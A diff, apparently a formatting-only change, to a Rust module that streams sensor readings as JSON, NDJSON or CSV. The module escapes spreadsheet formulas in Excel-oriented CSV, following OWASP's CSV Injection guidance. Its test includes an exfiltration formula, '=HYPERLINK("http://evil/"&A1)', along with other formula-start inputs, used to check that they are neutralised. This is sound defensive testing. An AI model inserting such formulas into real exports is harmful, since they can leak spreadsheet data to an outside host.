@@ -53,7 +53,15 @@ pub(super) fn readings_body(
     found: QueryResult<MergedReadings>,
     sending: OwnedSemaphorePermit,
 ) -> Response {
-    let QueryResult { answer: MergedReadings { rows, next, removed_until_ms }, complete } = found;
+    let QueryResult {
+        answer:
+            MergedReadings {
+                rows,
+                next,
+                removed_until_ms,
+            },
+        complete,
+    } = found;
     let until = removed_until_ms.map(rfc3339);
     let next = next.map(|cursor| cursor.to_string());
     let mut columns: Vec<String> = rows.fields().iter().map(ToString::to_string).collect();
@@ -64,9 +72,16 @@ pub(super) fn readings_body(
             let id = Json::from(sensor_id);
             let from = rfc3339(from_ms);
             let to = rfc3339(to_ms);
-            let begin = format!("{{\"sensor_id\":{id},\"from\":\"{from}\",\"to\":\"{to}\",\"readings\":[");
-            let until = until.as_ref().map(|until| format!(",\"readings_until\":\"{until}\"")).unwrap_or_default();
-            let end = format!("],\"next\":{},\"complete\":{complete}{until}}}", Json::from(next.clone()));
+            let begin =
+                format!("{{\"sensor_id\":{id},\"from\":\"{from}\",\"to\":\"{to}\",\"readings\":[");
+            let until = until
+                .as_ref()
+                .map(|until| format!(",\"readings_until\":\"{until}\""))
+                .unwrap_or_default();
+            let end = format!(
+                "],\"next\":{},\"complete\":{complete}{until}}}",
+                Json::from(next.clone())
+            );
             ("application/json", begin, end)
         }
         Format::Ndjson => ("application/x-ndjson", String::new(), String::new()),
@@ -76,10 +91,22 @@ pub(super) fn readings_body(
                 begin.push(',');
                 csv_cell(&mut begin, column, format);
             });
-            ("text/csv; charset=utf-8; header=present", begin + "\r\n", String::new())
+            (
+                "text/csv; charset=utf-8; header=present",
+                begin + "\r\n",
+                String::new(),
+            )
         }
     };
-    let pieces = BodyChunks { format, begin: Some(begin), rows, end, columns, is_first: true, _sending: sending };
+    let pieces = BodyChunks {
+        format,
+        begin: Some(begin),
+        rows,
+        end,
+        columns,
+        is_first: true,
+        _sending: sending,
+    };
     let body = stream::unfold(pieces, |mut pieces| async move {
         let piece = pieces.next()?;
         Some((Ok::<_, Infallible>(Bytes::from(piece)), pieces))
@@ -87,7 +114,10 @@ pub(super) fn readings_body(
     let mut response = Response::new(Body::from_stream(body));
     let headers = response.headers_mut();
     headers.insert(CONTENT_TYPE, HeaderValue::from_static(content_type));
-    headers.insert(COMPLETE, HeaderValue::from_static(if complete { "true" } else { "false" }));
+    headers.insert(
+        COMPLETE,
+        HeaderValue::from_static(if complete { "true" } else { "false" }),
+    );
     if let Some(next) = next.and_then(|next| HeaderValue::from_str(&next).ok()) {
         headers.insert(NEXT, next);
     }
@@ -116,7 +146,9 @@ impl BodyChunks {
                     row_json(&mut piece, &row);
                     piece.push('\n');
                 }
-                Format::Csv | Format::CsvExcel => row_csv(&mut piece, &row, &self.columns, self.format),
+                Format::Csv | Format::CsvExcel => {
+                    row_csv(&mut piece, &row, &self.columns, self.format)
+                }
             }
         }
         if self.rows.is_empty() {
@@ -150,7 +182,9 @@ fn row_csv(out: &mut String, row: &Row<'_>, columns: &[String], format: Format) 
     out.push_str(&rfc3339(row.ts_ms));
     for column in columns {
         out.push(',');
-        let Ok(at) = values.binary_search_by_key(&column.as_str(), |(name, _)| *name) else { continue };
+        let Ok(at) = values.binary_search_by_key(&column.as_str(), |(name, _)| *name) else {
+            continue;
+        };
         match values[at].1 {
             // Distinguishes an empty text from an absent one.
             ValueRef::Str("") => out.push_str("\"\""),
@@ -162,15 +196,24 @@ fn row_csv(out: &mut String, row: &Row<'_>, columns: &[String], format: Format) 
 }
 
 fn csv_cell(out: &mut String, text: &str, format: Format) {
-    if format == Format::CsvExcel { excel_text(out, text) } else { csv_text(out, text) }
+    if format == Format::CsvExcel {
+        excel_text(out, text)
+    } else {
+        csv_text(out, text)
+    }
 }
 
-/// A cell in which a spreadsheet finds no formula (OWASP, "CSV Injection"; ASVS 5.0, 1.2.10): always quoted, and a
-/// character that begins a formula has a single quote before it, at the beginning of the cell and after a character
-/// that some spreadsheets split cells at. (If Excel expects semicolons, the quotes of this format do not count.)
+/// A cell in which a spreadsheet finds no formula (OWASP, "CSV Injection"; ASVS 5.0, 1.2.10):
+/// always quoted, and a character that begins a formula has a single quote before it, at the
+/// beginning of the cell and after a character that some spreadsheets split cells at. (If Excel
+/// expects semicolons, the quotes of this format do not count.)
 fn excel_text(out: &mut String, text: &str) {
-    let begins_formula =
-        |c: char| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '\0' | '＝' | '＋' | '－' | '＠');
+    let begins_formula = |c: char| {
+        matches!(
+            c,
+            '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '\0' | '＝' | '＋' | '－' | '＠'
+        )
+    };
     let mut is_start = true;
     out.push('"');
     for c in text.chars() {
@@ -208,23 +251,45 @@ mod tests {
 
     async fn body(format: Format, rows: Rows) -> String {
         let permit = Arc::new(Semaphore::new(1)).try_acquire_owned().unwrap();
-        let found = QueryResult { answer: MergedReadings { rows, next: None, removed_until_ms: None }, complete: true };
+        let found = QueryResult {
+            answer: MergedReadings {
+                rows,
+                next: None,
+                removed_until_ms: None,
+            },
+            complete: true,
+        };
         let response = readings_body(format, "a\"b", (0, 1), found, permit);
-        String::from_utf8(to_bytes(response.into_body(), usize::MAX).await.unwrap().to_vec()).unwrap()
+        String::from_utf8(
+            to_bytes(response.into_body(), usize::MAX)
+                .await
+                .unwrap()
+                .to_vec(),
+        )
+        .unwrap()
     }
 
     #[tokio::test]
     async fn every_format_shows_every_value_and_an_empty_answer_is_whole() {
         let mut rows = Rows::default();
         for i in 0..(PIECE as i64 * 2 + 1) {
-            rows.push_named(i, RowFlags::default(), &[("n", ValueRef::Int(i)), ("d", ValueRef::Double(0.5))]);
+            rows.push_named(
+                i,
+                RowFlags::default(),
+                &[("n", ValueRef::Int(i)), ("d", ValueRef::Double(0.5))],
+            );
         }
-        let text =
-            [("say, \"it\"", ValueRef::Str("a,\"b\"\r\nc")), ("e", ValueRef::Str("")), ("on", ValueRef::Bool(true))];
+        let text = [
+            ("say, \"it\"", ValueRef::Str("a,\"b\"\r\nc")),
+            ("e", ValueRef::Str("")),
+            ("on", ValueRef::Bool(true)),
+        ];
         rows.push_named(5000, RowFlags::default(), &text);
         let csv = body(Format::Csv, rows.clone()).await;
         assert!(
-            csv.starts_with("ts,d,e,n,on,\"say, \"\"it\"\"\"\r\n1970-01-01T00:00:00.000Z,0.5,,0,,\r\n"),
+            csv.starts_with(
+                "ts,d,e,n,on,\"say, \"\"it\"\"\"\r\n1970-01-01T00:00:00.000Z,0.5,,0,,\r\n"
+            ),
             "{csv:.200}"
         );
         assert!(csv.ends_with("1970-01-01T00:00:05.000Z,,\"\",,true,\"a,\"\"b\"\"\r\nc\"\r\n"));
@@ -234,10 +299,15 @@ mod tests {
             json["readings"][7],
             serde_json::json!({"ts": "1970-01-01T00:00:00.007Z", "values": {"d": 0.5, "n": 7}})
         );
-        assert_eq!((&json["sensor_id"], &json["complete"], &json["next"]), (&"a\"b".into(), &true.into(), &Json::Null));
+        assert_eq!(
+            (&json["sensor_id"], &json["complete"], &json["next"]),
+            (&"a\"b".into(), &true.into(), &Json::Null)
+        );
         let lines = body(Format::Ndjson, rows).await;
         assert_eq!(lines.lines().count(), PIECE * 2 + 2);
-        lines.lines().for_each(|line| drop(serde_json::from_str::<Json>(line).unwrap()));
+        lines
+            .lines()
+            .for_each(|line| drop(serde_json::from_str::<Json>(line).unwrap()));
         assert_eq!(body(Format::Ndjson, Rows::default()).await, "");
         assert_eq!(body(Format::Csv, Rows::default()).await, "ts\r\n");
         serde_json::from_str::<Json>(&body(Format::Json, Rows::default()).await).unwrap();
@@ -247,19 +317,31 @@ mod tests {
     async fn a_spreadsheet_finds_no_formula_in_csv_of_its_own() {
         let evil = "=HYPERLINK(\"http://evil/\"&A1)";
         let mut rows = Rows::default();
-        for (i, text) in
-            [evil, "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "＝1", "a;=1", "a\n=1", "1,-2", "a - b", "plain", "", "'=1"]
-                .into_iter()
-                .enumerate()
+        for (i, text) in [
+            evil, "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "＝1", "a;=1", "a\n=1", "1,-2", "a - b",
+            "plain", "", "'=1",
+        ]
+        .into_iter()
+        .enumerate()
         {
             rows.push_named(i as i64, RowFlags::default(), &[("t", ValueRef::Str(text))]);
         }
-        let numbers = [("=n", ValueRef::Int(-5)), ("d", ValueRef::Double(-0.5)), ("on", ValueRef::Bool(true))];
+        let numbers = [
+            ("=n", ValueRef::Int(-5)),
+            ("d", ValueRef::Double(-0.5)),
+            ("on", ValueRef::Bool(true)),
+        ];
         rows.push_named(99, RowFlags::default(), &numbers);
         let plain = body(Format::Csv, rows.clone()).await;
-        assert!(plain.starts_with("ts,=n,d,on,t\r\n") && plain.contains(",-1\r\n"), "unchanged without it: {plain}");
+        assert!(
+            plain.starts_with("ts,=n,d,on,t\r\n") && plain.contains(",-1\r\n"),
+            "unchanged without it: {plain}"
+        );
         let excel = body(Format::CsvExcel, rows).await;
-        assert!(excel.starts_with("ts,\"'=n\",\"d\",\"on\",\"t\"\r\n"), "{excel}");
+        assert!(
+            excel.starts_with("ts,\"'=n\",\"d\",\"on\",\"t\"\r\n"),
+            "{excel}"
+        );
         for (i, cell) in [
             "'=HYPERLINK(\"\"http://evil/\"\"&A1)",
             "'+1",
@@ -282,6 +364,9 @@ mod tests {
             let line = format!("\r\n1970-01-01T00:00:00.{i:03}Z,,,,\"{cell}\"\r\n");
             assert!(excel.contains(&line), "{line:?} in {excel}");
         }
-        assert!(excel.ends_with("1970-01-01T00:00:00.099Z,-5,-0.5,true,\r\n"), "numbers stay numbers: {excel}");
+        assert!(
+            excel.ends_with("1970-01-01T00:00:00.099Z,-5,-0.5,true,\r\n"),
+            "numbers stay numbers: {excel}"
+        );
     }
 }
